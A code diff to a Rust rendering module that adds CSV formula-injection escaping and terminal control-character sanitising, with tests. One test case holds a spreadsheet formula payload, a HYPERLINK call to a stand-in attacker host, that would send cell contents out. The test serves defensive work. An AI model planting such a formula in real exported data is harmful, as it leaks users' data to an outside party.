@@ -162,13 +162,46 @@ pub fn render(format: Format, value: &impl Records, width: Option<u16>) -> Strin
     }
 }
 
+/// A cell a spreadsheet opens as text, never as a formula: a leading `=`, `+`, `-`, `@`,
+/// tab or carriage return gets a `'` in front (the spreadsheet convention for "this is
+/// text"), except for a plain negative number, which stays a number.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = cell
+        .strip_prefix('-')
+        .is_some_and(|n| n.parse::<f64>().is_ok());
+    if risky && !number {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// A cell as a terminal shows it: control characters (escape sequences, bells) replaced,
+/// line breaks kept for cells that wrap on purpose.
+fn terminal_safe(cell: String) -> String {
+    if cell.chars().any(|c| c.is_control() && c != '\n') {
+        cell.chars()
+            .map(|c| {
+                if c.is_control() && c != '\n' {
+                    '�'
+                } else {
+                    c
+                }
+            })
+            .collect()
+    } else {
+        cell
+    }
+}
+
 fn csv_text(value: &impl Records) -> String {
     let mut w = csv::Writer::from_writer(Vec::new());
     let write = |w: &mut csv::Writer<Vec<u8>>| -> csv::Result<()> {
         let layout = value.layout();
         w.write_record(layout.columns.iter().map(|(c, _)| *c))?;
         for row in &layout.rows {
-            w.write_record(row)?;
+            w.write_record(row.iter().map(|c| spreadsheet_safe(c).into_owned()))?;
         }
         w.flush()?;
         Ok(())
@@ -200,7 +233,10 @@ fn table_text(value: &impl Records, width: Option<u16>) -> String {
                 .set_width(w);
         }
         table.set_header(columns.iter().map(|(c, _)| *c));
-        table.add_rows(rows);
+        table.add_rows(
+            rows.into_iter()
+                .map(|r| r.into_iter().map(terminal_safe).collect::<Vec<_>>()),
+        );
         for (i, (_, align)) in columns.iter().enumerate() {
             let Some(c) = table.column_mut(i) else {
                 continue;
@@ -280,5 +316,37 @@ mod tests {
             .filter(|c| !c.is_whitespace() && !"│┆║".contains(*c))
             .collect();
         assert!(text.contains("通报表扬"));
+    }
+
+    #[test]
+    fn csv_cells_never_run_as_formulas() {
+        for (cell, want) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
+                "'=HYPERLINK(",
+            ),
+            ("+1+1", "'+1+1"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("-1+1", "'-1+1"),
+            ("-3", "-3"),
+            ("-2.5", "-2.5"),
+            ("张三", "张三"),
+        ] {
+            assert!(spreadsheet_safe(cell).starts_with(want), "{cell}");
+        }
+        let t = render(Format::Csv, &Names(vec![("=1+1".into(), -3)]), None);
+        assert_eq!(t, "name,n\n'=1+1,-3\n");
+    }
+
+    #[test]
+    fn escape_sequences_never_reach_the_terminal() {
+        let t = render(
+            Format::Table,
+            &Names(vec![("\u{1b}[31mred".into(), 1)]),
+            None,
+        );
+        assert!(!t.contains('\u{1b}'), "{t:?}");
+        assert!(t.contains("�[31mred"), "{t}");
     }
 }
